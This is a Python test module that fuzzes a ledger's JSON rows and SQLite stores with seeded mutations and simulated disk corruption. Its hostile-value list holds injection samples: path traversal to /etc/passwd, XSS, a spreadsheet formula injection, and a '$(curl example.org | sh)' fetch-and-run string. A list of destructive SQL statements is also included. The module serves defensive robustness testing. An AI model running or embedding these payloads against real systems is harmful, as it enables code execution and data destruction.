"""Mutations of rows and stores, as a stranger or a broken disk would make them; seeded."""

import copy
import json
import os
import random
import sqlite3

from pytest_scaling.ledger.format import dump
from pytest_scaling.ledger.record import digest

MANY = float(os.environ.get("FUZZ", "1"))  # times as many as in an ordinary run
HOSTILE = (
    "../../../victim/settings",
    "/etc/passwd",
    "a\nb",
    "\x1b[2J\x1b]0;x\x07",
    "\u202eevil",
    "\ud800",
    "=cmd|' /C calc'!A0",
    "`|</script><script>alert(1)</script>",
    "javascript:alert(1)",
    "http://[::1",
    "$(curl example.org | sh)",
    "}{ \\end{document} $\\frac{$",
    "evil-package",
    "x" * 10_000,
    "",
)
NUMBERS = (0, -1, 1, 2, -400, 0.5, 2.0, 1e300, 2**62, 10**30, 0.001, 1 / 3)
VALUES = (*HOSTILE, *NUMBERS, None, True, False, [], {}, [0], {"x": 1})


def places(value, way=()):
    """The way to every value inside a JSON value, the whole excluded."""
    for key, each in value.items() if isinstance(value, dict) else enumerate(value):
        yield (*way, key)
        if isinstance(each, (dict, list)):
            yield from places(each, (*way, key))


def at(value, way):
    for part in way:
        value = value[part]
    return value


def changed(row, chance):
    """A row with one value that is another one, gone, twice or elsewhere; the way to it."""
    made = copy.deepcopy(row)
    way = chance.choice(list(places(made)))
    inner, last = at(made, way[:-1]), way[-1]
    kind = chance.randrange(5)
    if kind == 0:
        del inner[last]
    elif kind == 1 and isinstance(inner, list):
        inner.insert(last, copy.deepcopy(inner[last]))
    elif kind == 2 and isinstance(inner, dict):
        inner[chance.choice(HOSTILE)] = inner.pop(last)
    elif kind == 3 and type(inner[last]) in (int, float):
        inner[last] = chance.choice((inner[last] + 1, -inner[last], inner[last] * 1.01))
    else:
        inner[last] = chance.choice(VALUES)
    return made, way


def renewed(row):
    """The row with the digest that belongs to it, as whoever edits it can write."""
    try:
        return row | {"digest": digest(row)}
    except (TypeError, ValueError):
        return row


def text_of(row):
    """The row as a file, if need be with what no other writer of JSON would write."""
    try:
        return dump(row).encode(errors="surrogatepass")
    except (TypeError, ValueError):
        return json.dumps(row).encode()


def harmed(text, chance):
    """The bytes of a file, cut, flipped, repeated, or with a literal that JSON lacks."""
    place = chance.randrange(len(text))
    kind = chance.randrange(6)
    if kind == 0:
        return text[:place]
    if kind == 1:
        return text[:place] + bytes([chance.randrange(256)]) + text[place + 1 :]
    if kind == 2:
        return text[:place] + text[place // 2 :]
    if kind == 3:
        literal = chance.choice([b"NaN", b"-Infinity", b"1e999", b"9" * 400, b"0." + b"1" * 9000])
        return text.replace(chance.choice([b"0.131", b"64", b"true"]), literal, 1)
    if kind == 4:
        return text.replace(b"null", b"[" * 5_000 + b"]" * 5_000, 1)
    return text.replace(b'"verdict":', b'"verdict": "refuted", "verdict":', 1)


def file_of(row, chance):
    """What a stranger writes into the file of a row."""
    if chance.random() < 0.25:
        return harmed(text_of(row), chance)
    made, _ = changed(row, chance)
    return text_of(renewed(made) if chance.random() < 0.8 else made)


SQL = (
    "UPDATE results SET metrics = '{\"error\": 2.0}'",
    "UPDATE results SET metrics = '{\"error\": NaN}'",
    "UPDATE results SET metrics = 7",
    "UPDATE results SET metrics = x'00ff'",
    "UPDATE results SET metrics = '[' || hex(zeroblob(2000))",
    "UPDATE results SET seconds = 'soon'",
    "UPDATE results SET seconds = 9e999",
    "UPDATE results SET correct = 'text'",
    "UPDATE results SET correct = zeroblob(10)",
    "UPDATE results SET rows = -5",
    "UPDATE results SET diverged = 'no'",
    "UPDATE results SET checksum = 1",
    "UPDATE results SET seed = seed + 1000",
    "UPDATE trials SET ingredients = '[]'",
    "UPDATE trials SET ingredients = 5",
    "UPDATE trials SET ingredients = x'ff'",
    "UPDATE trials SET created = 0",
    "UPDATE trials SET created = x'1b5b324a'",
    "UPDATE trials SET identity = char(27) || identity",
    "UPDATE trials SET machine = 'another'",
    "DELETE FROM trials",
    "DELETE FROM results",
    "DROP TABLE trials",
    "ALTER TABLE trials RENAME TO others",
    "CREATE VIEW v AS SELECT * FROM trials",
    "CREATE TABLE notes (line)",
    "CREATE INDEX i ON results (seed)",
    "CREATE TRIGGER t AFTER INSERT ON results BEGIN DELETE FROM trials; END",
    "CREATE TRIGGER t BEFORE DELETE ON leases BEGIN INSERT INTO trials SELECT 1, 2, 3, 4; END",
    "PRAGMA user_version = 99",
    "PRAGMA user_version = 1",
)


def harm_store(path, chance):
    """Change a store as SQL can, or as a broken disk does."""
    if chance.random() < 0.6:
        connection = sqlite3.connect(path)
        connection.execute(chance.choice(SQL))
        connection.commit()
        connection.close()
        return
    content = bytearray(path.read_bytes())
    place = chance.randrange(len(content))
    kind = chance.randrange(4)
    if kind == 0:
        content = content[:place]
    elif kind == 1:
        content[place : place + 64] = random.Random(place).randbytes(64)
    elif kind == 2:
        content[place % 100] ^= 1 << chance.randrange(8)
    else:
        content[place] ^= 1 << chance.randrange(8)
    path.write_bytes(bytes(content))
